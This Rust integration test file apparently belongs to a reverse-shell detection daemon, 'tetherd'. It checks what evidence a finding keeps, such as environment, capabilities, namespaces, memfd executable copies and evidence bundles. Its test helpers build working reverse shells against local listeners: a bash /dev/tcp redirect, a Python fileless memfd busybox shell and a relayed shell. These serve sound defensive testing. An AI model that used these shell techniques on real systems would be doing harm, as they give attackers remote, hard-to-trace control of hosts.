//! What a finding keeps of its process: real ones, each with something of its own to tell.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test's helpers may fail the test wherever they are"
)]

mod common;

use std::fs;
use std::net::TcpStream;
use std::os::fd::OwnedFd;
use std::os::unix::fs::PermissionsExt;
use std::process::{Command, Stdio};

use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use common::attacker::Listener;
use common::daemon::Daemon;
use common::finding::Finding;
use common::victim::Victim;
use common::{DEADLINE, token, wait_at_most};

/// With time enough for a busy machine: what is asserted here is content.
fn daemon() -> Daemon {
    Daemon::start("[enrich]\ndigest_wait_ms = 1000\nevidence_copy = true\n")
}

/// A tether and the process on it.
struct Tied {
    attacker: Listener,
    victim: Victim,
}

impl Tied {
    /// A shell that connects, and then `wrapper`, which gets the socket as fd 5 and runs the words after it.
    fn new(wrapper: &[&str], program: &str) -> Self {
        let attacker = Listener::tcp();
        let code = format!(
            "exec 5<>/dev/tcp/127.0.0.1/{}; exec \"$@\" -c 'exec {program} <&5 >&5 2>&5 5>&-'",
            attacker.port()
        );
        let victim = Victim::start("/bin/bash", &[&["-c", &code, "bash"], wrapper].concat());
        Self { attacker, victim }
    }

    fn by(mut command: Command) -> Self {
        let attacker = Listener::tcp();
        let stream = TcpStream::connect(("127.0.0.1", attacker.port())).unwrap();
        let stdio = || Stdio::from(OwnedFd::from(stream.try_clone().unwrap()));
        command.stdin(stdio()).stdout(stdio()).stderr(stdio());
        Self { victim: Victim::spawn(command), attacker }
    }

    /// A program that lives in memory alone: busybox and a tail of one's own, so that no other test has the same.
    fn in_memory(tail: &str) -> Self {
        let attacker = Listener::tcp();
        let code = format!(
            "import os, socket\nm = os.memfd_create('sh')\nos.write(m, open('/usr/bin/busybox', 'rb').read() + b'{tail}')\n\
             s = socket.create_connection(('127.0.0.1', {}))\n\
             for n in 0, 1, 2: os.dup2(s.fileno(), n)\nos.execve(m, ['sh'], {{}})\n",
            attacker.port()
        );
        Self { victim: Victim::start("/usr/bin/python3", &["-c", &code]), attacker }
    }

    /// The newest record about it whose main process was gathered and `is` what is meant.
    fn found(&self, daemon: &Daemon, is: impl Fn(&Finding) -> bool) -> Finding {
        let about = |record: &Finding| record.peer_port() == Some(self.attacker.port());
        let found = wait_at_most(DEADLINE, || {
            let all = daemon.records();
            all.into_iter().rfind(|record| {
                about(record) && !record.property("Process_Namespaces").is_null() && is(record)
            })
        });
        found.unwrap_or_else(|| {
            let last = daemon.records().into_iter().rfind(about);
            panic!(
                "no finding with its evidence; the last record: {:?}",
                last.map(|record| record.0.to_string())
            )
        })
    }
}

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes).iter().map(|byte| format!("{byte:02x}")).collect()
}

fn runs(record: &Finding, name: &str) -> bool {
    record.text("Process_Binary_Fullpath").rsplit('/').next() == Some(name)
}

#[test]
fn a_script_its_environment_and_a_copy_of_its_shell() {
    require!("dash");
    let daemon = daemon();
    let directory = tempfile::tempdir().unwrap();
    let text = format!("# {}\nread line\n", token());
    fs::write(directory.path().join("x.sh"), &text).unwrap();
    let mut command = Command::new("/usr/bin/dash");
    command.arg("x.sh").current_dir(directory.path()).env("SSH_CLIENT", "192.0.2.7 40000 22");
    command.env("DB_PASSWORD", "hunter2");
    let tied = Tied::by(command);
    let found = tied.found(&daemon, |record| runs(record, "dash"));
    let script = found.property("Process_Script");
    assert_eq!(script["sha256"], sha256(text.as_bytes()), "{}", found.0);
    assert_eq!(script["path"], directory.path().join("x.sh").to_str().unwrap());
    let process = found.process(tied.victim.pid()).unwrap();
    assert_eq!(process["script"]["sha256"], script["sha256"]);
    let environment = found.property("Process_Environment");
    assert_eq!(environment["values"]["SSH_CLIENT"], "192.0.2.7 40000 22");
    assert!(environment["names"].as_array().unwrap().contains(&json!("DB_PASSWORD")));
    assert!(!found.mentions("hunter2"));
    assert!(found.property("Process_Capabilities")["effective"][0].is_string(), "{}", found.0);
    assert_eq!(found.property("Process_Namespaces"), &json!({}));
    assert_eq!(found.property("Executable_Origin")["kind"], "host", "{}", found.0);
    is_copied(&daemon, &found, &fs::read("/usr/bin/dash").unwrap());
    // The whole record has everything: nothing of it is missing.
    assert_eq!(found.property("Enrichment_Status"), &json!({"complete": true, "missing": []}));
}

fn is_copied(daemon: &Daemon, found: &Finding, content: &[u8]) {
    let name = found.property("Evidence_File")["sha256"].as_str().unwrap_or_default().to_owned();
    assert_eq!(name, sha256(content), "{}", found.0);
    let copy = daemon.place().spool().join("evidence").join(&name);
    assert!(fs::read(&copy).unwrap() == content, "the copy is another file");
    assert_eq!(fs::metadata(&copy).unwrap().permissions().mode() & 0o777, 0o600);
}

/// A memfd, twice: it is kept although it has no name anywhere, and the two findings are linked both ways.
#[test]
fn memory_is_kept_and_links_two_findings() {
    require!("python3", "busybox");
    let daemon = daemon();
    let from_memory = |record: &Finding| record.property("Executable_Origin")["kind"] == "memfd";
    let first = Tied::in_memory("links");
    let one = first.found(&daemon, from_memory);
    is_copied(&daemon, &one, &[fs::read("/usr/bin/busybox").unwrap(), b"links".to_vec()].concat());
    assert!(one.property("Related_Findings").is_null(), "{}", one.0);
    drop(first);
    daemon.wait_for("the first one ends", |record| record.id() == one.id() && record.state() == "INACTIVE");
    let second = Tied::in_memory("links");
    let two = second.found(&daemon, from_memory);
    let link = |to: &Finding| json!({"id": to.id(), "reasons": ["executable"], "firstSeen": to.0["finding"]["eventTime"]});
    let linked = |record: &Finding, to: &Finding| {
        record.property("Related_Findings").as_array().is_some_and(|list| list.contains(&link(to)))
    };
    daemon.wait_for("the second names the first", |record| record.id() == two.id() && linked(record, &one));
    let again = daemon
        .wait_for("the first names the second", |record| record.id() == one.id() && linked(record, &two));
    assert_eq!(again.state(), "INACTIVE", "it is over still");
    assert_eq!(again.count(), one.count());
}

/// An address of this machine that is not on loopback.
fn own_address() -> Option<std::net::IpAddr> {
    // Nothing is sent: the kernel only chooses a route.
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").ok()?;
    socket.connect("192.0.2.1:9").ok()?;
    socket.local_addr().ok().map(|address| address.ip()).filter(|ip| !ip.is_loopback())
}

/// Two findings with the same peer, and one with another: linked both ways, in the records and in `show`.
#[test]
fn one_peer_links_two_findings() {
    require!("dash");
    let Some(ip) = own_address() else { return common::impossible("it has no address but loopback's") };
    let daemon = daemon();
    let with = |ip: &str| {
        let attacker = Listener::at(ip);
        let mut command = Command::new("/usr/bin/dash");
        let stream = TcpStream::connect((ip, attacker.port())).unwrap();
        let stdio = || Stdio::from(OwnedFd::from(stream.try_clone().unwrap()));
        command.stdin(stdio()).stdout(stdio()).stderr(stdio());
        Tied { victim: Victim::spawn(command), attacker }
    };
    let ip = ip.to_string();
    let (first, other) = (with(&ip), with("127.0.0.1"));
    let one = first.found(&daemon, |record| runs(record, "dash"));
    let apart = other.found(&daemon, |record| runs(record, "dash"));
    drop(first);
    daemon.wait_for("the first one ends", |record| record.id() == one.id() && record.state() == "INACTIVE");
    let second = with(&ip);
    let two = second.found(&daemon, |record| runs(record, "dash"));
    for (own, to) in [(&one, &two), (&two, &one)] {
        let links =
            |record: &Finding| record.property("Related_Findings").as_array().cloned().unwrap_or_default();
        let linked = daemon.wait_for("the link", |record| {
            record.id() == own.id() && links(record).iter().any(|link| link["id"] == to.id())
        });
        let link = links(&linked).into_iter().find(|link| link["id"] == to.id()).unwrap();
        assert_eq!(link["reasons"], json!(["peer", "executable"]), "{}", linked.0);
        assert!(links(&linked).iter().all(|link| link["id"] != apart.id()), "{}", linked.0);
        let spool = daemon.place().spool().display().to_string();
        let shown = common::daemon::tetherd(&["show", own.id(), "--spool", &spool]).stdout;
        let shown = String::from_utf8(shown).unwrap();
        assert!(shown.contains("Related Findings") && shown.contains(to.id()), "{shown}");
    }
}

#[test]
fn fewer_privileges() {
    require!("setpriv", "dash");
    let daemon = daemon();
    let options = ["--reuid=65534", "--regid=65534", "--clear-groups", "--no-new-privs", "--inh-caps=-all"];
    let tied = Tied::new(&[&["setpriv"], &options[..], &["--", "/bin/sh"]].concat(), "/usr/bin/dash");
    let found = tied.found(&daemon, |record| runs(record, "dash"));
    assert_eq!(
        found.property("Process_Capabilities"),
        &json!({"effective": [], "permitted": []}),
        "{}",
        found.0
    );
    assert_eq!(found.property("Process_No_New_Privileges"), &json!(true));
    let ids = json!({"userId": 65534, "effectiveUserId": 65534, "groupId": 65534, "effectiveGroupId": 65534});
    assert_eq!(found.property("Process_Credentials"), &ids);
    let other = Tied::new(&["setpriv", "--bounding-set=-all,+kill", "--", "/bin/sh"], "/usr/bin/dash");
    let found = other.found(&daemon, |record| runs(record, "dash"));
    assert_eq!(
        found.property("Process_Capabilities"),
        &json!({"effective": ["KILL"], "permitted": ["KILL"]}),
        "{}",
        found.0
    );
    assert_eq!(found.property("Process_No_New_Privileges"), &json!(false));
}

/// A process that keeps namespaces, made by a script of the shell's.
fn holder(unshare: &[&str], script: &str) -> Victim {
    let mut command = Command::new("/usr/bin/unshare");
    command
        .args(unshare)
        .args(["--", "/bin/sh", "-ec", script])
        .stdin(Stdio::piped())
        .stderr(Stdio::inherit());
    Victim::ready(command, "ready")
}

#[test]
fn in_the_image_or_added_since() {
    require!("busybox", "unshare", "nsenter", "chroot");
    let daemon = daemon();
    let directory = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let at = |name: &str| directory.path().join(name).display().to_string();
    for name in ["lower/bin", "lower/usr", "lower/opt", "lower/vol", "upper", "work", "merged"] {
        fs::create_dir_all(at(name)).unwrap();
    }
    fs::copy("/usr/bin/busybox", at("lower/bin/busybox")).unwrap();
    fs::copy("/usr/bin/busybox", at("lower/usr/busybox")).unwrap();
    let (merged, host) = (
        at("merged"),
        holder(
            &["-m"],
            &format!(
                "mount -t overlay overlay -o lowerdir={},upperdir={},workdir={} {m}\n\
             cp /usr/bin/busybox {m}/opt/busybox\nchmod 700 {m}/usr/busybox\n\
             mount -t tmpfs none {m}/vol\ncp /usr/bin/busybox {m}/vol/busybox\necho ready\nread line",
                at("lower"),
                at("upper"),
                at("work"),
                m = at("merged")
            ),
        ),
    );
    let target = host.pid().to_string();
    for (program, kind, filesystem) in [
        ("/bin/busybox", "image", "overlay"),
        ("/opt/busybox", "added", "overlay"),
        ("/usr/busybox", "changed", "overlay"),
        ("/vol/busybox", "mount", "tmpfs"),
    ] {
        let enter = ["nsenter", "-t", &target, "-m", "chroot", &merged, "/bin/busybox", "sh"];
        let tied = Tied::new(&enter, &format!("{program} sh"));
        let found = tied.found(&daemon, |record| record.text("Process_Binary_Fullpath").ends_with(program));
        let origin = found.property("Executable_Origin");
        assert_eq!(
            (&origin["kind"], &origin["filesystem"]),
            (&json!(kind), &json!(filesystem)),
            "{program}: {}",
            found.0
        );
        assert!(found.property("Process_Namespaces")["mnt"].is_string(), "{}", found.0);
    }
}

#[test]
fn other_peers_of_its_network_namespace() {
    require!("python3", "unshare", "nsenter", "ip", "dash");
    let daemon = daemon();
    let code = "import socket, sys\nl = socket.create_server(('127.0.0.1', 7777))\n\
                c = socket.create_connection(('127.0.0.1', 7777))\nprint('ready', flush=True)\nsys.stdin.read()";
    let host = holder(&["-n"], &format!("ip link set lo up\nexec python3 -c \"{code}\""));
    let target = host.pid().to_string();
    let tied = Tied::new(&["nsenter", "-t", &target, "-n", "/bin/sh"], "/usr/bin/dash");
    let found = tied.found(&daemon, |record| runs(record, "dash"));
    let peers = found.property("Network_Peers");
    let list = peers["peers"].as_array().unwrap();
    assert!(
        list.iter().any(|one| one["protocol"] == "TCP" && one["peer"] == "127.0.0.1:7777"),
        "{}",
        found.0
    );
    assert_eq!(peers["more"], Value::Bool(false));
    assert!(found.property("Process_Namespaces")["net"].is_string());
}

/// The relay of a shell is connected to somebody else as well: whoever told it to, or whom it goes on to.
#[test]
fn other_peers_of_the_relay() {
    require!("python3", "dash");
    let daemon = daemon();
    let attacker = Listener::tcp();
    let other = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let code = format!(
        "import socket, subprocess, threading\no = socket.create_connection(('127.0.0.1', {}))\n\
         s = socket.create_connection(('127.0.0.1', {}))\n\
         p = subprocess.Popen(['/usr/bin/dash'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)\n\
         threading.Thread(target=lambda: [s.sendall(line) for line in p.stdout], daemon=True).start()\n\
         while d := s.recv(4096):\n    p.stdin.write(d); p.stdin.flush()",
        other.local_addr().unwrap().port(),
        attacker.port()
    );
    let victim = Victim::start("python3", &["-c", &code]);
    let mut session = attacker.accept();
    session.run("id -u; uname -s");
    let found = daemon.wait_for("the relayed shell", |record| {
        record.peer_port() == Some(attacker.port()) && record.property("Relay_Peers").is_object()
    });
    let peers = found.property("Relay_Peers");
    let peer = format!("127.0.0.1:{}", other.local_addr().unwrap().port());
    let list = peers["peers"].as_array().unwrap();
    assert!(list.iter().any(|one| one["protocol"] == "TCP" && one["peer"] == peer.as_str()), "{}", found.0);
    // The tether itself is none of the others.
    assert_eq!((list.len(), &peers["more"]), (1, &Value::Bool(false)), "{}", found.0);
    drop((session, victim));
}

/// A launcher is another program a moment later, in other namespaces: whatever was read in time is the launcher's, the
/// rest is the later program's and says so.
#[test]
fn a_launcher_and_what_it_became() {
    require!("unshare", "nsenter", "dash");
    let daemon = daemon();
    let host = holder(&["-n"], "echo ready\nread line");
    let target = host.pid().to_string();
    let mut later_seen = 0;
    for _ in 0..6 {
        let mut command = Command::new("nsenter");
        command.args(["-t", &target, "-n", "/usr/bin/dash"]).env("SUDO_USER", "eve");
        let tied = Tied::by(command);
        let found = tied.found(&daemon, |_| true);
        let (own, later) = (found.property("Process_Namespaces"), found.property("Later_Program"));
        let inside = |namespaces: &Value| namespaces["net"].is_string();
        if runs(&found, "dash") {
            // It had become that by the first look.
            assert!(inside(own) && later.is_null(), "{}", found.0);
            continue;
        }
        assert!(runs(&found, "nsenter"), "{}", found.0);
        // As far as the launcher had come by then: it enters namespaces itself.
        assert!(own.is_object(), "{}", found.0);
        let environment = match later.is_null() {
            true => found.property("Process_Environment"),
            false => {
                later_seen += 1;
                assert!(later["path"].as_str().unwrap().ends_with("/dash"), "{}", found.0);
                assert!(inside(&later["namespaces"]), "{}", found.0);
                assert!(found.property("Process_Environment").is_null(), "{}", found.0);
                let missing = found.property("Enrichment_Status")["missing"].to_string();
                assert!(missing.contains("environment: it has executed another program since"), "{missing}");
                &later["environment"]
            }
        };
        assert_eq!(environment["values"]["SUDO_USER"], "eve", "{}", found.0);
        // Its program's file is there by the first look, and so is where it came from.
        assert_eq!(found.property("Executable_Origin")["kind"], "host", "{}", found.0);
    }
    common::say(&format!("the later program in {later_seen} of 6"));
}

/// What cannot be kept is said, and the finding is there in time all the same.
#[test]
fn a_full_directory_and_an_ended_process_are_said() {
    require!("dash");
    let daemon =
        Daemon::start("[enrich]\ndigest_wait_ms = 1000\nevidence_copy = true\nevidence_max_bytes = 65536\n");
    let tied = Tied::by(Command::new("/usr/bin/dash"));
    let found = tied.found(&daemon, |record| runs(record, "dash"));
    let said = found.property("Enrichment_Status")["missing"].to_string();
    assert!(said.contains("copy of the executable: the evidence directory is full"), "{}", found.0);
    let evidence = daemon.place().spool().join("evidence");
    // The daemon sees other tests' programs as well, and small ones fit.
    assert!(!evidence.join(sha256(&fs::read("/usr/bin/dash").unwrap())).exists());

    let mut command = Command::new("/usr/bin/dash");
    command.args(["-c", ":"]);
    let short = Tied::by(command);
    let ended = daemon.wait_for("the short one ends", |record| {
        record.peer_port() == Some(short.attacker.port()) && record.state() == "INACTIVE"
    });
    let told = !ended.property("Process_Namespaces").is_null();
    let said = ended.property("Enrichment_Status")["missing"].to_string();
    assert!(told || said.contains("the process has gone"), "{}", ended.0);
}

/// `tetherd evidence` while it lives, and when it has ended.
#[test]
fn collected_while_it_lives() {
    require!("python3", "busybox", "sha256sum", "tar");
    let daemon = daemon();
    let tied = Tied::in_memory("kept");
    let found = tied.found(&daemon, |record| record.property("Executable_Origin")["kind"] == "memfd");
    let (pid, spool) = (tied.victim.pid(), daemon.place().spool().display().to_string());
    let place = tempfile::tempdir().unwrap();
    let collect = |name: &str, more: &[&str]| {
        let output = place.path().join(name);
        let to = output.display().to_string();
        let arguments = [&["evidence", found.id(), "--spool", &spool, "-o", &to], more].concat();
        let said = common::daemon::tetherd(&arguments);
        assert!(said.status.success(), "{}", String::from_utf8_lossy(&said.stderr));
        let manifest = fs::read(output.join("manifest.json")).unwrap();
        (output, serde_json::from_slice::<Value>(&manifest).unwrap(), String::from_utf8(said.stdout).unwrap())
    };
    let (bundle, manifest, said) = collect("living", &["--memory"]);
    let live = bundle.join(format!("live/{pid}"));
    let text = |name: &str| String::from_utf8_lossy(&fs::read(live.join(name)).unwrap()).into_owned();
    let busybox = [fs::read("/usr/bin/busybox").unwrap(), b"kept".to_vec()].concat();
    assert!(fs::read(live.join("exe")).unwrap() == busybox, "the program that has no file");
    assert!(
        fs::read(bundle.join("programs").join(sha256(&busybox))).unwrap() == busybox,
        "the daemon's copy"
    );
    assert!(text("status").contains(&format!("Pid:\t{pid}\n")));
    assert!(text("links.tsv").contains("exe\t/memfd:sh (deleted)"), "{}", text("links.tsv"));
    let inode = found.text("Socket_Inode");
    assert!(text("fds.tsv").contains(&format!("0\tsocket:[{inode}]")), "{}", text("fds.tsv"));
    let network = fs::read_link(format!("/proc/{pid}/ns/net")).unwrap().display().to_string();
    let network = bundle.join(format!("live/net-{}", network.trim_matches(|c: char| !c.is_ascii_digit())));
    assert!(fs::read_to_string(network.join("tcp")).unwrap().contains(inode));
    let process = |manifest: &Value| {
        let all = manifest["processes"].as_array().unwrap().clone();
        all.into_iter().find(|process| process["pid"] == pid).unwrap()
    };
    assert_eq!(
        (&process(&manifest)["state"], &process(&manifest)["role"]),
        (&json!("lives"), &json!("command"))
    );
    assert!(said.contains(&format!("gcore -a -o core-{} {pid}", found.id())), "{said}");
    drop(tied);
    daemon.wait_for("it ends", |record| record.id() == found.id() && record.state() == "INACTIVE");
    let (bundle, manifest, _) = collect("ended", &[]);
    assert_ne!(process(&manifest)["state"], "lives", "{manifest:#}");
    assert!(!bundle.join(format!("live/{pid}")).exists());
    assert!(fs::read(bundle.join("programs").join(sha256(&busybox))).unwrap() == busybox);
}

/// What is kept of an environment, and of what came after the first command.
#[test]
fn collected_with_and_without_secrets() {
    require!("bash");
    let daemon = daemon();
    let mut command = Command::new("/bin/bash");
    command.env("DB_PASSWORD", "hunter2").env("SSH_CLIENT", "192.0.2.7 40000 22");
    let tied = Tied::by(command);
    let found = tied.found(&daemon, |record| runs(record, "bash"));
    let mut session = tied.attacker.accept();
    session.run("sleep 300 </dev/null >/dev/null 2>&1 & echo started");
    let spool = daemon.place().spool().display().to_string();
    let place = tempfile::tempdir().unwrap();
    for (name, more) in [("listed", [].as_slice()), ("full", ["--full"].as_slice())] {
        let output = place.path().join(name);
        let to = output.display().to_string();
        let arguments = [&["evidence", found.id(), "--spool", &spool, "-o", &to], more].concat();
        assert!(common::daemon::tetherd(&arguments).status.success());
        let environ = fs::read(output.join(format!("live/{}/environ", tied.victim.pid()))).unwrap();
        let environ = String::from_utf8_lossy(&environ).into_owned();
        assert!(environ.contains("SSH_CLIENT=192.0.2.7 40000 22"), "{environ}");
        assert!(environ.contains("DB_PASSWORD"), "{environ}");
        assert_eq!(environ.contains("hunter2"), name == "full", "{environ}");
        // What it started in the background holds nothing of the tether, and is kept.
        let manifest: Value =
            serde_json::from_slice(&fs::read(output.join("manifest.json")).unwrap()).unwrap();
        let processes = manifest["processes"].as_array().unwrap();
        let sleeps = processes.iter().any(|process| {
            let directory = process["directory"].as_str().unwrap_or("none");
            fs::read(output.join(directory).join("cmdline")).is_ok_and(|line| line.starts_with(b"sleep\0"))
        });
        assert!(sleeps, "{manifest:#}");
    }
    session.run("kill $!");
}
